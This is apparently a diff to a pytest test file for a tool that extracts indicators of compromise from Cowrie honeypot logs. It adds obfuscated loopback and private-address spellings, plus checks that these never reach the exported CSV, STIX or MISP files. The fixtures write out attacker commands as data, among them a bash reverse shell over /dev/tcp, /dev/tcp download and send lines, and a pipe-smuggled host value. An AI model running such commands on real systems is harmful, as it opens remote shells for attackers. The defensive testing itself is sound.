@@ -22,6 +22,10 @@ import pytest
 import cbtest
 
 H = {k: (c * 64) for k, c in {"drop": "a", "write": "b", "upload": "c", "drop2": "d"}.items()}
+# Other spellings of loopback and private hosts that clients resolve the same way (found by review).
+LOOPBACK_URLS = ["http://2130706433/a", "http://0x7f.1/b", "http://0177.0.0.1/c", "http://127.1/d", "http://LOCALHOST/e",
+                 "http://127.0.0.1./f", "http://[fe80::1%25eth0]/g", "http://[::127.0.0.1]/h", "http://[64:ff9b::7f00:1]/i",
+                 "http://[2002:7f00:1::]/j", "http://user@10.9.9.9/k"]
 PRIVATE = ["10.0.0.5", "127.0.0.1", "192.168.1.1", "172.16.4.4", "100.64.1.1", "169.254.1.1", "::1", "fe80::1",
            "fd00::1", "::ffff:10.1.1.1"]
 
@@ -81,7 +85,8 @@ def build() -> Log:
                                              dl("http://127.0.0.1:8000/x.sh", H["drop2"]),
                                              dl("http://10.1.2.3/y", failed=True),
                                              dl("http://localhost/z", failed=True),
-                                             dl("http://[::1]:80/w", failed=True)],
+                                             dl("http://[::1]:80/w", failed=True)]
+                + [dl(u, failed=True) for u in LOOPBACK_URLS],
                 expect=[("src_ip", "203.0.113.20"), ("url", "http://evil.example/x.sh?a='b'"), ("sha256", H["drop2"])])
     # Sources: private and loopback ones, and failed logins, are no indicators.
     for ip in PRIVATE:
@@ -91,7 +96,8 @@ def build() -> Log:
     # Where the shell was told to connect (reverse shells, /dev/tcp downloaders): c2 targets.
     log.session("s1", "203.0.113.40", commands=["bash -i >& /dev/tcp/198.51.100.66/4444 0>&1",
                                                 "exec 6<>/dev/tcp/127.0.0.1/80 && cat </dev/tcp/10.0.0.1/1",
-                                                "echo x > /dev/tcp/c2.example.net/53; cat /dev/tcp/198.51.100.67/99999"],
+                                                "echo x > /dev/tcp/c2.example.net/53; cat /dev/tcp/198.51.100.67/99999",
+                                                "cat < /dev/tcp/198.51.100.66/04444 /dev/tcp/LOCALHOST/1 /dev/tcp/2130706433/2"],
                 expect=[("src_ip", "203.0.113.40"), ("c2", "198.51.100.66:4444"), ("c2", "c2.example.net:53")])
     # Forwarding targets and an upload; a malformed hash is not shared.
     log.session("s0", "203.0.113.30", items=[
@@ -99,6 +105,10 @@ def build() -> Log:
         ("cowrie.direct-tcpip.request", {"dst_ip": "10.0.0.1", "dst_port": 80, "src_port": 4}),
         ("cowrie.direct-tcpip.request", {"dst_ip": "mail.example.org", "dst_port": 587, "src_port": 4}),
         ("cowrie.direct-tcpip.request", {"dst_ip": "2001:db8::1", "dst_port": 443, "src_port": 4}),
+        ("cowrie.direct-tcpip.request", {"dst_ip": "[::1]", "dst_port": 80, "src_port": 4}),
+        ("cowrie.direct-tcpip.request", {"dst_ip": "fe80::1%eth0", "dst_port": 80, "src_port": 4}),
+        ("cowrie.direct-tcpip.request", {"dst_ip": "a|b.example", "dst_port": 80, "src_port": 4}),
+        ("cowrie.direct-tcpip.request", {"dst_ip": "Mail.Example.ORG.", "dst_port": 587, "src_port": 4}),
         ("cowrie.session.file_upload", {"filename": "u.sh", "outfile": "o", "shasum": H["upload"]}),
         ("cowrie.session.file_upload", {"filename": "v.sh", "outfile": "o", "shasum": "not-a-hash"}),
     ], expect=[("src_ip", "203.0.113.30"), ("forward_target", "198.51.100.25:25"),
@@ -153,7 +163,8 @@ def test_iocs_csv_is_exactly_the_truth(run):
 def test_no_private_or_loopback_address_is_exported(run):
     res, _ = run
     text = "".join((res.out / "iocs" / n).read_text() for n in ("iocs.csv", "stix2.json", "misp.json"))
-    for a in PRIVATE + ["10.1.2.3", "10.0.0.1:80", "localhost", "203.0.113.50", "not-a-hash", "198.51.100.67"]:
+    for a in PRIVATE + ["10.1.2.3", "10.0.0.1:80", "localhost", "203.0.113.50", "not-a-hash", "198.51.100.67",
+                        "a|b.example", "04444"] + LOOPBACK_URLS:
         # as a whole token: 2001:db8::1 holds "::1"
         assert not re.search(r"(?<![0-9A-Za-z:.\[])" + re.escape(a) + r"(?![0-9A-Za-z:.])", text), a
 
